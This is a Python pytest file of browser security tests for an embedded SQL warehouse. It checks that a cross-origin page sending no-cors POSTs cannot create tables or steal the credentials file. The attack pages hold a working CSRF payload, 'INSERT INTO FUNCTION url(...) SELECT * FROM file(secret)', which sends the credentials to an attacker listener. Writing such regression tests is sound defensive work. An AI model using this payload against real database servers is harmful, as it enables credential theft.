"""A web page on another origin cannot drive the embedded warehouse (measured attacks, replayed in Chromium).

Before the warehouse had logins and Origin checks, a `no-cors` POST from any page created a table, and a
second page sent `INSERT INTO FUNCTION url(…) SELECT … FROM file('…secret…')`, which delivered the secret
to the page's own listener. Each page here waits for the warehouse's answer before the test looks, so
whatever the request could have done is done by then.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from halton_warehouse import connect
from halton_warehouse.logins import credentials_path

pytestmark = pytest.mark.browser


class AttackerSite:
    """A site on another origin: serves the attack pages and listens for what they exfiltrate."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.received: list[tuple[str, bytes]] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                page = site.pages.get(self.path)
                body = (page or "not found").encode()
                self.send_response(200 if page else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                site.received.append((self.path, self.rfile.read(length)))
                self.send_response(204)
                self.end_headers()

            do_PUT = do_POST

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def attacker() -> Iterator[AttackerSite]:
    site = AttackerSite()
    yield site
    site.close()


def attack_page(warehouse_address: str, sql: str, query: str = "") -> str:
    """A page that POSTs `sql` to the warehouse the way a cross-site page can (`no-cors`), then says done."""
    return f"""<!doctype html><title>waiting</title><script>
fetch({json.dumps(warehouse_address + "/" + query)}, {{method: "POST", mode: "no-cors", body: {json.dumps(sql)}}})
  .then(() => "answered", (error) => "failed: " + error)
  .then((outcome) => {{ document.title = "done: " + outcome; }});
</script>"""


def run_page(chromium, attacker: AttackerSite, path: str, html: str) -> str:
    attacker.pages[path] = html
    context = chromium.new_context()
    try:
        page = context.new_page()
        page.goto(attacker.origin + path)
        page.wait_for_function("document.title.startsWith('done')", timeout=30_000)
        return page.title()
    finally:
        context.close()


def with_and_without_login(embedded_warehouse) -> list[str]:
    # Even a page that somehow learnt the admin login is refused: the Origin header gives it away.
    admin = embedded_warehouse.logins.admin
    return ["", f"?user={admin.user}&password={admin.password}"]


def test_a_cross_origin_post_cannot_create_a_table(chromium, attacker, embedded_warehouse) -> None:
    client = connect(embedded_warehouse.url)
    for number, query in enumerate(with_and_without_login(embedded_warehouse)):
        table = f"default.made_by_a_page_{number}"
        sql = f"CREATE TABLE {table} (x UInt8) ENGINE = Memory"
        outcome = run_page(
            chromium, attacker, f"/ddl{number}.html", attack_page(embedded_warehouse.address, sql, query)
        )
        assert outcome.startswith("done")
        assert client.command(f"EXISTS TABLE {table}") == 0


def test_a_page_cannot_send_the_secret_out_through_url_and_file(
    chromium, attacker, embedded_warehouse
) -> None:
    secret = credentials_path(embedded_warehouse.data_dir)
    sql = (
        f"INSERT INTO FUNCTION url('{attacker.origin}/exfil', 'CSV', 'line String') "
        f"SELECT * FROM file('{secret}', 'LineAsString')"
    )
    for number, query in enumerate(with_and_without_login(embedded_warehouse)):
        outcome = run_page(
            chromium, attacker, f"/exfil{number}.html", attack_page(embedded_warehouse.address, sql, query)
        )
        assert outcome.startswith("done")
    # The warehouse answered both requests before the pages said done: anything it sent has arrived.
    assert attacker.received == []


def test_the_same_statement_from_a_client_is_refused_too(attacker, embedded_warehouse) -> None:
    # Not only pages: no login may make the warehouse read files or reach the network.
    from clickhouse_connect.driver.exceptions import DatabaseError

    secret = credentials_path(embedded_warehouse.data_dir)
    client = connect(embedded_warehouse.url)
    with pytest.raises(DatabaseError, match="ACCESS_DENIED"):
        client.command(
            f"INSERT INTO FUNCTION url('{attacker.origin}/exfil', 'CSV', 'line String') "
            f"SELECT * FROM file('{secret}', 'LineAsString')"
        )
    assert attacker.received == []
